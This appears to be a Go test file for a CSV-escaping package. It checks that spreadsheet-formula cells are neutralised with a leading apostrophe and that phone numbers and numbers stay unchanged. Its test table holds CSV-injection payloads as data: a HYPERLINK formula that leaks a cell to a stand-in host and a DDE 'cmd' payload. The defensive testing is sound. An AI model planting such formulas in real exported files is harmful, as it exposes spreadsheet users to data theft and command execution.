package csvsafe

import (
	"encoding/csv"
	"strings"
	"testing"
)

// TestCellsThatASpreadsheetWouldRunAreNeutralised: a cell a spreadsheet would read as a formula
// (OWASP's rule: it starts with = + - @, a tab or a carriage return) is written with a leading
// apostrophe; numbers and phone numbers, which can hold no function or reference, stay as they
// are.
func TestCellsThatASpreadsheetWouldRunAreNeutralised(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.test/?"&B2,"x")`: `'=HYPERLINK("http://evil.test/?"&B2,"x")`,
		"+SUM(1;2)":                "'+SUM(1;2)",
		"-2+3+cmd|' /C calc'!A0":   "'-2+3+cmd|' /C calc'!A0",
		"@SUM(A1)":                 "'@SUM(A1)",
		"\t=1":                     "'\t=1",
		"\r=1":                     "'\r=1",
		"=":                        "'=",
		"-":                        "'-",
		"+14155550123":             "+14155550123",
		"+1 (202) 555-0147":        "+1 (202) 555-0147",
		"-12.5":                    "-12.5",
		"Ana = Bo":                 "Ana = Bo",
		"":                         "",
		"2026-11-21T22:13:19.123Z": "2026-11-21T22:13:19.123Z",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
	var b strings.Builder
	w := NewWriter(&b)
	if err := w.Write([]string{"=1+1", "+14155550123", "plain"}); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(rows) != 1 || rows[0][0] != "'=1+1" || rows[0][1] != "+14155550123" || rows[0][2] != "plain" {
		t.Fatalf("written %q (%v)", b.String(), err)
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{"=1", "+1", "-", "@", "\t", "\r", "abc", "+1 (202) 555-0147"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Cell(s)
		if got != s && got != "'"+s {
			t.Fatalf("Cell(%q) = %q: only an apostrophe may be added", s, got)
		}
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) && strings.ContainsFunc(got, func(r rune) bool {
			return !strings.ContainsRune("0123456789+-.,() ", r)
		}) {
			t.Fatalf("Cell(%q) = %q still starts like a formula", s, got)
		}
	})
}
